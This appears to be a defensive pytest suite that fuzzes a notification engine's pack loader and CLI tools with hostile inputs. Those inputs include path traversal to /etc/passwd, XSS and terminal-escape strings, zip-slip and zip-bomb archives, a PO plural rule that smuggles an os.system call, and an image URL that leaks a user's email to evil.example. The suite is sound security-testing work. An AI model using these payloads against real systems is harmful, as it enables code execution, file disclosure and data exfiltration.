"""Hostile packs at every door a pack comes in by: the engine's own start and reload, and the tools of designers."""

import json
import os
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from livery.cli import app
from livery.config import Config
from livery.engine import Engine
from packtools.making import FILES, NOTIFICATION, write
from unit.making import plain

SECONDS = 12.0
"""Of work, for a tool that starts a worker of its own and makes every message of a pack."""
SOAK = bool(os.environ.get("LIVERY_SOAK"))
STRINGS = FILES["strings/en.toml"]
TOML = FILES[NOTIFICATION]
MANIFEST = FILES["pack.toml"]


def png(width=1, height=1, extra=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + extra
        + chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
        + chunk(b"IEND", b"")
    )


CHANGED = {
    # manifests
    "no manifest": {"pack.toml": None},
    "an empty manifest": {"pack.toml": ""},
    "a manifest of NULs": {"pack.toml": "\x00" * 1000},
    "a manifest of brackets": {"pack.toml": "[" * 100_000},
    "a manifest of tables": {"pack.toml": MANIFEST + "".join(f"[x{n}]\n" for n in range(15_000))},
    "a deep key": {"pack.toml": MANIFEST + "[" + ".".join(["a"] * 5_000) + "]\n"},
    "a deep array": {"pack.toml": MANIFEST + "x = " + "[" * 2_000 + "]" * 2_000},
    "a deep inline table": {"pack.toml": MANIFEST + "x = " + "{a=" * 2_000 + "1" + "}" * 2_000},
    "a key twice": {"pack.toml": 'id = "x"\n' + MANIFEST},
    "a table twice": {"pack.toml": MANIFEST + "[tokens]\n"},
    "a number of 200 KB": {"pack.toml": MANIFEST.replace("format = 1", "format = " + "1" * 200_000)},
    "a number in hex of 200 KB": {"pack.toml": MANIFEST.replace("format = 1", "format = 0x" + "f" * 200_000)},
    "a float": {"pack.toml": MANIFEST.replace("format = 1", "format = 1.0")},
    "infinity": {"pack.toml": MANIFEST.replace("format = 1", "format = inf")},
    "a date": {"pack.toml": MANIFEST.replace("format = 1", "format = 2026-01-01")},
    "an id that leads away": {"pack.toml": MANIFEST.replace('"tiny"', '"../../etc"')},
    "an id with an escape": {"pack.toml": MANIFEST.replace('"tiny"', '"\\u001b[2J\\u0007"')},
    "an id of 200 KB": {"pack.toml": MANIFEST.replace('"tiny"', '"' + "a" * 200_000 + '"')},
    "a title that moves the cursor": {"pack.toml": MANIFEST.replace('"Tiny"', '"\\u001b[2J\\u001b[1;1H\\u202eevil\\r\\n::error::x"')},
    "a version with markup": {"pack.toml": MANIFEST.replace('"1.0.0"', '"<script>[bold red]1\\u001b[0m"')},
    "a version that leads away": {"pack.toml": MANIFEST.replace('"1.0.0"', '"../../../../tmp/evil"')},
    "an engine range": {"pack.toml": MANIFEST.replace("license", 'engine = ">=' + "1." * 9_000 + '1"\nlicense')},
    "an engine range of commas": {"pack.toml": MANIFEST.replace("license", 'engine = "' + "," * 100_000 + '"\nlicense')},
    "its own parent": {"pack.toml": MANIFEST.replace("license", 'parent = "tiny"\nlicense')},
    "a parent that is not there": {"pack.toml": MANIFEST.replace("license", 'parent = "no-such"\nlicense')},
    "adds to itself": {"pack.toml": MANIFEST.replace("license", 'adds_to = "tiny"\nlicense')},
    "a newer format": {"pack.toml": MANIFEST.replace("format = 1", "format = 99")},
    "tokens by the thousand": {"pack.toml": MANIFEST + "".join(f't{n} = {{ type = "colour", on = "t{(n + 1) % 4000}" }}\n' for n in range(4_000))},
    "tokens as each other": {"pack.toml": MANIFEST + "".join(f't{n} = {{ type = "text", same_as = "t{(n + 1) % 3000}" }}\n' for n in range(3_000))},
    "a token out of a style": {"pack.toml": MANIFEST + 'evil = "red;background:url(//evil.example)"\n'},
    "a colour out of a style": {"pack.toml": MANIFEST.replace("#134e6f", "red;}</style><script>")},
    "a colour of digits": {"pack.toml": MANIFEST.replace("#134e6f", "rgb(" + "9" * 1_900 + ",1,1)")},
    "a font out of a style": {"pack.toml": MANIFEST + 'evil = { type = "font", value = "\'a\\\'}</style><script>\'" }\n'},
    "a length that is none": {"pack.toml": MANIFEST + 'evil = { type = "length", value = "1e999px" }\n'},
    "an image from elsewhere": {"pack.toml": MANIFEST + 'evil = { type = "image", value = "https://evil.example/x.gif" }\n'},
    "an image that leads away": {"pack.toml": MANIFEST + 'evil = { type = "image", value = "assets/../../../etc/passwd" }\n'},
    "a link that runs": {"pack.toml": MANIFEST + 'evil = { type = "url", value = "java\\u0000script:alert(1)" }\n'},
    "a token named like Python": {"pack.toml": MANIFEST + '__class__ = "x"\nself = "x"\nevent = "x"\n"a b" = "x"\n"" = "x"\n'},
    "hosts of everything": {"pack.toml": MANIFEST + '[hosts]\nimages = ["*", "*.com", "**", ".", "evil.example/x", "127.0.0.1"]\n'},
    "fonts from elsewhere": {"pack.toml": MANIFEST + '[fonts]\nEvil = "https://evil.example/x.css"\n"a\\"b" = "http://evil.example/x"\n'},
    "overrides of nothing": {"pack.toml": MANIFEST + '[overrides."../../etc/passwd"]\ndigest = "x"\nof = "x"\n'},
    "overrides by the thousand": {"pack.toml": MANIFEST + "".join(f'[overrides."blocks/{n}.txt.j2"]\ndigest = "{"0" * 64}"\nof = "base 1"\n' for n in range(1_500))},
    # strings
    "strings by the thousand": {"strings/en.toml": STRINGS + "".join(f'k{n} = "{{{{ event.order.id }}}}"\n' for n in range(7_000))},
    "strings nested": {"strings/en.toml": STRINGS + "[" + ".".join(["a"] * 400) + "]\nx = '1'\n"},
    "strings that are no text": {"strings/en.toml": STRINGS + "x = 1\ny = [1]\nz = 2026-01-01\nb = true\n"},
    "dotted twice": {"strings/en.toml": STRINGS + '"a.b" = "1"\n[tiny.a]\nb = "2"\n[a]\nb = "3"\n'},
    "locales by the hundred": {f"strings/{a}{b}.toml": STRINGS for a in "abcdefghijklmnop" for b in "abcdefghijklmnop"},
    "locales that are none": {f"strings/{name}.toml": STRINGS for name in ("x", "en_US_POSIX@x", "..en", "en-" + "a" * 100, "zz-Zzzz-ZZ", "-", "art-lojban", "en-u-ca-buddhist", "ENGLISH", "\u0435n")},
    "locales that differ in case": {"strings/EN.toml": STRINGS, "strings/En.toml": STRINGS},
    "a plural bomb": {"strings/en.toml": STRINGS.replace("{{ event.error.message }}", "{{ event.error.message }} {{ event.offer.quantity|plural(" + ",".join(f"k{n}='x'" for n in range(4_000)) + ") }}")},
    "a string without end": {"strings/en.toml": 'x = """' + "a" * 200_000},
    "a string of escapes": {"strings/en.toml": STRINGS + 'x = "' + "\\u0041" * 40_000 + '"\n'},
    "strings in UTF-16": {"strings/en.toml": STRINGS.encode("utf-16")},
    "strings in Latin-1": {"strings/de.toml": "a = 'K\xe4se'".encode("latin-1")},
    "strings with bidi": {"strings/en.toml": STRINGS.replace("Order {{", "\u202eredrO\u2066 {{")},
    "strings with markup": {"strings/en.toml": STRINGS.replace("It failed", "<script>alert(1)</script><!channel>[bold red]")},
    "a string that runs in a terminal": {"strings/en.toml": STRINGS + '"\\u001b]8;;https://evil.example\\u0007x" = "{{ no.such }}"\n'},
    # notifications
    "blocks by the hundred": {NOTIFICATION: TOML + "".join(f'[[blocks]]\nid = "b{n}"\nkind = "text"\ntext = "tiny.text"\n' for n in range(199))},
    "blocks by the thousand": {NOTIFICATION: TOML + "".join(f'[[blocks]]\nid = "b{n}"\nkind = "text"\ntext = "x"\n' for n in range(3_000))},
    "facts by the thousand": {NOTIFICATION: TOML + '[[blocks]]\nid = "f"\nkind = "facts"\n' + '[[blocks.facts]]\nlabel = "tiny.text"\nvalue = "{{ event.order.id }}"\n' * 3_000},
    "items by the thousand": {NOTIFICATION: TOML + '[[blocks]]\nid = "f"\nkind = "list"\nitems = [' + '"{{ event.error.message }}",' * 6_000 + "]\n"},
    "actions by the thousand": {NOTIFICATION: TOML + '[[blocks]]\nid = "f"\nkind = "actions"\n' + '[[blocks.actions]]\nlabel = "x"\nurl = "https://evil.example/{{ event.order.id }}"\n' * 2_000},
    "conditions by the hundred": {NOTIFICATION: TOML + "".join(f'[[blocks]]\nid = "b{n}"\nkind = "text"\ntext = "tiny.text"\nwhen = "event.error.retryable and event.a{n} == {n}"\n' for n in range(190))},
    "blocks of one id": {NOTIFICATION: TOML + '[[blocks]]\nid = "summary"\nkind = "text"\ntext = "x"\n' * 9},
    "blocks after each other": {NOTIFICATION: TOML + '[[blocks]]\nid = "a"\nkind = "text"\ntext = "x"\nafter = "b"\n[[blocks]]\nid = "b"\nkind = "text"\ntext = "x"\nafter = "a"\n'},
    "a block after itself": {NOTIFICATION: TOML + '[[blocks]]\nid = "a"\nkind = "text"\ntext = "x"\nafter = "a"\n'},
    "no such kind": {NOTIFICATION: TOML + '[[blocks]]\nid = "a"\nkind = "../../etc/passwd"\n'},
    "an image of width": {NOTIFICATION: TOML + '[[blocks]]\nid = "a"\nkind = "image"\nurl = "https://ours.example/a.png"\nwidth = 99999999999999999999\n'},
    "a pixel": {NOTIFICATION: TOML + '[[blocks]]\nid = "a"\nkind = "image"\nurl = "https://evil.example/{{ event.user.email }}.gif"\nalt = ""\n'},
    "a removal of nothing": {NOTIFICATION: "remove = [" + '"x",' * 199 + "]\n" + TOML},
    "an event that is none": {NOTIFICATION: TOML.replace("OfferProvisionError", "No\\u001b[2JSuch")},
    "a notification that leads away": {"notifications/..%2f..%2fetc.toml": TOML},
    "notifications by the hundred": {f"notifications/n{n}.toml": TOML for n in range(300)},
    # templates and cards
    "partials that bring in each other": {"blocks/text.mjml.j2": "{% include 'parts/a.mjml.j2' %}", "parts/a.mjml.j2": "{% include 'parts/b.mjml.j2' %}{% include 'parts/b.mjml.j2' %}", "parts/b.mjml.j2": "{% include 'parts/a.mjml.j2' %}"},
    "parts in a tree": {"blocks/text.mjml.j2": "{% include 'parts/0.mjml.j2' %}", **{f"parts/{n}.mjml.j2": f"{{% include 'parts/{n + 1}.mjml.j2' %}}" * 10 for n in range(12)}, "parts/12.mjml.j2": "<mj-text>x</mj-text>"},
    "parts by the hundred": {f"parts/{n}.mjml.j2": "{{ event.x }}" for n in range(450)},
    "a partial for a kind that is none": {"blocks/__class__.mjml.j2": "x", "blocks/../x.mjml.j2": None},
    "cards that are no JSON": {"blocks/text.block_kit.json": "{" * 50_000, "blocks/text.adaptive_card.json": "[" * 100_000},
    "a card that is deep": {"blocks/text.block_kit.json": '{"type":"section","x":' * 900 + "1" + "}" * 900},
    "a card of numbers": {"blocks/text.block_kit.json": '{"type":"section","x":' + "9" * 100_000 + ',"y":1e999,"z":NaN}'},
    "a card with a key twice": {"blocks/text.block_kit.json": '{"type":"section","type":"actions","text":{"type":"mrkdwn","text":"x"}}'},
    "a card that mentions": {"blocks/text.block_kit.json": '{"type":"section","text":{"type":"mrkdwn","text":"\\u003c!channel> x"}}'},
    "a card that submits": {"blocks/text.adaptive_card.json": '{"type":"ActionSet","actions":[{"type":"Action.Submit","title":"x"}]}'},
    "a card with entities": {"blocks/text.adaptive_card.json": '{"type":"RichTextBlock","inlines":[{"type":"TextRun","text":"x"}],"msteams":{"entities":[{"type":"mention"}]}}'},
    "a card that repeats": {"blocks/text.block_kit.json": "[" + '{"$data":"block.facts","type":"divider"},' * 2_000 + '{"type":"divider"}]'},
    "a card with an odd $": {"blocks/text.block_kit.json": '{"$host":"x","$when":1,"type":"divider"}'},
    "a card that is text": {"blocks/text.block_kit.json": '"just words"', "blocks/text.adaptive_card.json": "null"},
    "letters that loop": {"blocks/text.txt.j2": "{% for a in block.text %}{% for b in block.text %}{% for c in block.text %}{{ c }}{% endfor %}{% endfor %}{% endfor %}"},
    # images
    "an image that lies": {"assets/a.png": b"<svg onload=alert(1)>", "assets/b.png": b"GIF89a\xff\xff\xff\xff"},
    "an SVG": {"assets/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
    "an image of gigapixels": {"assets/a.png": png(2**31 - 1, 2**31 - 1)},
    "an image cut off": {"assets/a.png": png()[:20], "assets/b.jpg": b"\xff\xd8\xff", "assets/c.gif": b"GIF89a", "assets/d.webp": b"RIFF\xff\xff\xff\xffWEBPVP8 "},
    "an image of chunks": {"assets/a.png": png(1, 1, (struct.pack(">I", 0) + b"tEXt" + b"\0\0\0\0") * 60_000)},
    "a JPEG without end": {"assets/a.jpg": b"\xff\xd8" + b"\xff\xe0\x00\x02" * 200_000},
    "a page as an image": {"assets/a.png": b"<html><script>alert(1)</script>", "assets/a.html": b"<script>alert(1)</script>"},
    "images by the hundred": {f"assets/{n}.png": png() for n in range(400)},
    "a name with markup": {"assets/<img src=x onerror=alert(1)>.png": png()},
    "a name that moves the cursor": {"assets/\x1b[2Jevil.png": png()},
    "a name of two lines": {"assets/a\nb.png": png(), "strings/e\rn.toml": STRINGS},
    "a name right to left": {"assets/\u202egnp.exe.png": png()},
    "names that are the same to some": {"assets/caf\u00e9.png": png(), "assets/cafe\u0301.png": png()},
    "names of devices": {"assets/con.png": png(), "parts/aux.txt.j2": "x", "assets/nul": b"x"},
    # samples
    "samples that are no JSON": {"samples/offer_provision_error/a.json": "{", "samples/offer_provision_error/b.json": "\x00"},
    "a deep sample": {"samples/offer_provision_error/a.json": "[" * 100_000 + "]" * 100_000},
    "a sample that is no event": {"samples/offer_provision_error/a.json": "[]", "samples/offer_provision_error/b.json": '{"a": 1, "a": 2}', "samples/offer_provision_error/c.json": "NaN"},
    "samples by the hundred": {f"samples/offer_provision_error/s{n}.json": "{}" for n in range(300)},
    "a sample for a notification that leads away": {"samples/..%2f/a.json": "{}", "samples/no_such/a.json": "{}"},
    "a hostile sample": {"samples/offer_provision_error/a.json": json.dumps(plain({"data.error.message": "<script>alert(1)</script>\u202e\x1b[2J" + "x" * 50_000, "data.user.locale": "../../x"}))},
}  # fmt: skip


@pytest.fixture
def place(tmp_path, monkeypatch):
    """A folder to work in, with a pack in `tiny`; what is written beside it is seen."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("COLUMNS", "120")
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.chdir(home)
    return home


def pack_in(home, changes):
    raw = {name: text for name, text in changes.items() if isinstance(text, bytes)}
    folder = home / "tiny"
    write(folder, {**FILES, **{name: text for name, text in changes.items() if name not in raw and text is not None}})
    for name, text in changes.items():
        if text is None:
            (folder / name).unlink(missing_ok=True)
    for name, content in raw.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return folder


def run(*arguments, inputs=None):
    start = time.process_time(), os.times()
    done = CliRunner().invoke(app, [str(one) for one in arguments], input=inputs)
    ended = os.times()
    worked = time.process_time() - start[0] + ended.children_user - start[1].children_user
    said = done.output
    assert done.exception is None or isinstance(done.exception, SystemExit), f"{arguments}: {done.exception!r}"
    assert done.exit_code in (0, 1, 2), said[-2000:]
    assert "Traceback" not in said
    assert len(said) <= 1024 * 1024
    assert not [char for char in said if not (char.isprintable() or char == "\n")], f"{arguments}: {ascii(said)[:1000]}"
    assert worked <= SECONDS, f"{arguments}: {worked:.1f} s"
    return done


def files_beside(place):
    return {str(one.relative_to(place)) for one in place.rglob("*") if not one.is_dir()}


# What costs least shows most; the rest is for the long run.
_HEAVY = {
    "parts in a tree", "notifications by the hundred", "facts by the thousand", "strings by the thousand",
    "a card that repeats", "blocks by the hundred", "overrides by the thousand", "items by the thousand",
    "images by the hundred", "conditions by the hundred", "actions by the thousand", "samples by the hundred",
}  # fmt: skip
_LIGHT = [about for about in CHANGED if SOAK or about not in _HEAVY]
CHECKED = [*CHANGED] if SOAK else [*dict.fromkeys((*_LIGHT[::3], "locales by the hundred"))]
STARTED = [*CHANGED] if SOAK else [one for one in _LIGHT[1::3] if one != "locales by the hundred"]


@pytest.mark.parametrize("about", CHECKED)
def test_a_tool_says_what_is_wrong_and_does_nothing_else(place, about):
    folder = pack_in(place, CHANGED[about])
    before = files_beside(place)
    run("pack", "check", folder)
    assert files_beside(place) == before
    if SOAK:
        tools = (
            ("explain", folder, "--json"),
            ("diff", folder),
            ("assets", folder, place / "out"),
            ("po-export", folder, "de", "--out", place / "out/de.po"),
            ("build", folder, "--out", place / "out/x.zip"),
            ("override", folder, "layouts/email.mjml.j2"),
        )
        for tool in tools:
            run("pack", *tool)
        assert {one for one in files_beside(place) if one.split("/")[0] not in ("out", "tiny")} <= before


@pytest.mark.parametrize("about", STARTED)
def test_an_engine_with_such_a_pack_starts_and_writes(place, about):
    folder = pack_in(place, CHANGED[about])
    tenants = {"platform": {}, "shop": {"name": "The Shop", "parent": "platform", "pack": "tiny"}}
    settings = {"tenants": tenants, "channels": {"smtp": {"host": "127.0.0.1"}}, "pack_paths": [str(folder)]}
    start = time.process_time()
    with Engine(Config.model_validate(settings)) as engine:
        made = engine.preview(plain(), channel="smtp", locale="en")
        engine.reload_packs()
    assert "Not available in your region" in made.message.text
    assert time.process_time() - start <= SECONDS


# --------------------------------------------------------------------------- places a pack may lie in


def test_sources_that_are_none_are_refused_in_a_sentence(place):
    os.mkfifo(place / "fifo")
    (place / "loop").symlink_to(place / "loop")
    (place / "text").write_text("no pack")
    (place / "bomb.zip").write_bytes(b"PK\x05\x06" + b"\xff" * 18)
    with zipfile.ZipFile(place / "slip.zip", "w") as archive:
        archive.writestr("pack.toml", MANIFEST)
        archive.writestr("strings/../../../../evil.toml", "x")
    with zipfile.ZipFile(place / "ratio.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("pack.toml", MANIFEST + "#" * 50_000_000)
    names = (
        "fifo",
        "loop",
        "text",
        "bomb.zip",
        "slip.zip",
        "ratio.zip",
        "/dev/zero",
        "/proc/self/mem",
        "/",
        "no\nsuch",
        "\x1b[2J",
        "x" * 5000,
        "",
    )
    for name in names:
        for tool in ("check", "explain", "build", "diff") if SOAK else ("check", "build"):
            done = run("pack", tool, name)
            assert done.exit_code in (1, 2), (name, tool, done.output)
    assert not list(Path(place.parent).rglob("evil.toml"))


def test_odd_files_in_a_pack_are_refused_in_a_sentence(place):
    for name, make in {
        "strings/xx.toml": os.mkfifo,
        "assets/a.png": lambda at: at.symlink_to("/etc/passwd"),
        "parts/x.txt.j2": lambda at: at.symlink_to("/dev/zero"),
        "layouts": lambda at: None,
        "parts/loop": lambda at: at.symlink_to("."),
        "samples/x": lambda at: at.symlink_to("/"),
    }.items():
        folder = pack_in(place, {})
        at = folder / name
        at.parent.mkdir(parents=True, exist_ok=True)
        if not at.exists():
            make(at)
            done = run("pack", "check", folder)
            assert done.exit_code != 0, name
            at.unlink()


def test_packs_that_are_each_others_parents_are_told(place):
    for one, other in (("a", "b"), ("b", "c"), ("c", "a")):
        files = {"pack.toml": MANIFEST.replace('"tiny"', f'"{one}"').replace("license", f'parent = "{other}"\nlicense')}
        write(place / one, {**FILES, **files})
    (place / "livery.toml").write_text('pack_paths = ["a", "b", "c"]\n[tenants.platform]\npack = "a"\n')
    done = run("pack", "check", "a", "--config", "livery.toml")
    assert done.exit_code != 0
    assert "parents" in done.output
    run("pack", "list", "--config", "livery.toml")


def test_a_chain_of_a_hundred_packs_is_no_bomb(place):
    names = [f"p{n}" for n in range(100)]
    for number, name in enumerate(names):
        parent = f'parent = "{names[number + 1]}"\n' if number + 1 < len(names) else ""
        layout = '{% extends "parent:layouts/email.mjml.j2" %}{% block x %}{{ super() }}{{ super() }}{% endblock %}'
        files = {"pack.toml": MANIFEST.replace('"tiny"', f'"{name}"').replace("license", f"{parent}license")}
        write(place / name, {**files, **({"layouts/email.mjml.j2": layout} if parent else FILES), **files})
    tenants = {"platform": {}, "shop": {"name": "The Shop", "parent": "platform", "pack": "p0"}}
    settings = {"tenants": tenants, "channels": {"smtp": {"host": "127.0.0.1"}}, "pack_paths": names}
    start = time.process_time()
    with Engine(Config.model_validate(settings)) as engine:
        assert "Not available in your region" in engine.preview(plain(), channel="smtp", locale="en").message.text
    assert time.process_time() - start <= SECONDS


PO = {
    "nothing": "",
    "no header": 'msgid "a"\nmsgstr "b"\n',
    "garbage": "\x00\x01\x02" * 1000,
    "a header that lies": 'msgid ""\nmsgstr "Content-Type: text/plain; charset=utf-7\\nLanguage: ../../etc\\n"\n',
    "plural forms that run": "msgid \"\"\nmsgstr \"Plural-Forms: nplurals=99999999; plural=__import__('os').system('id');\\n\"\n",
    "plural forms that grow": 'msgid ""\nmsgstr "Plural-Forms: nplurals=2; plural=' + "(" * 50_000 + ';\\n"\n',
    "a key that leads away": 'msgctxt "../../etc/passwd"\nmsgid "a"\nmsgstr "b"\n',
    "a key twice": 'msgctxt "tiny.text"\nmsgid "a"\nmsgstr "b"\n' * 2,
    "entries by the ten thousand": 'msgctxt "k"\nmsgid "a"\nmsgstr "b"\n\n' * 10_000,
    "a line without end": 'msgid "' + "a" * 200_000,
    "quotes": '"' * 100_000,
    "a text that is a template": 'msgctxt "tiny.text"\nmsgid "It failed: {{ event.error.message }}"\nmsgstr "{{ event.__class__ }}{% for a in b %}"\n',
    "a text that moves the cursor": 'msgctxt "tiny.text"\nmsgid "x"\nmsgstr "\\033[2J\\a\\b\\u202e"\n',
    "obsolete": '#~ msgid "a"\n#~ msgstr "b"\n' * 5_000,
}


@pytest.mark.parametrize("about", PO)
def test_a_translation_that_is_none_changes_nothing_it_must_not(place, about):
    folder = pack_in(place, {})
    (place / "x.po").write_text(PO[about], encoding="utf-8")
    before = {name: (folder / name).read_text("utf-8") for name in FILES}
    run("pack", "po-import", folder, place / "x.po")
    assert {name: (folder / name).read_text("utf-8") for name in FILES} == before
    assert all(name.startswith(("tiny/", "x.po")) for name in files_beside(place))


def test_a_pack_that_is_edited_without_rest_is_whole_at_every_reload(place):
    folder = pack_in(place, {})
    tenants = {"platform": {}, "shop": {"name": "The Shop", "parent": "platform", "pack": "tiny"}}
    settings = {"tenants": tenants, "channels": {"smtp": {"host": "127.0.0.1"}}, "pack_paths": [str(folder)]}
    broken = ['[tiny]\nsubject = "', "\x00", '[tiny]\nsubject = "{{"', "", "[tiny]\nsubject = 1"]
    with Engine(Config.model_validate(settings)) as engine:
        for number in range(200 if SOAK else 10):
            text = broken[number % 5] if number % 2 else STRINGS.replace("Order", f"Order {number}:")
            (folder / "strings/en.toml").write_text(text, encoding="utf-8")
            engine.reload_packs()
            message = engine.preview(plain(), channel="smtp", locale="en").message
            # What can be read is in use, though it has no subject, or one that says nothing.
            assert "ORD-1" in message.title or number % 10 in (3, 7), (number, message.title, message.degraded)
            assert "Not available in your region" in message.text or message.degraded


def test_a_config_with_packs_that_are_none_says_so_and_starts(place):
    settings = {
        "tenants": {"platform": {}, "shop": {"parent": "platform", "pack": "../../etc"}},
        "pack_paths": ["/etc/passwd", "/dev/zero", "no such", "/"],
    }
    with Engine(Config.model_validate(settings)) as engine:
        assert len(engine.library.broken) == 4
        assert "Copilot" in engine.preview(plain(), channel="smtp").message.text
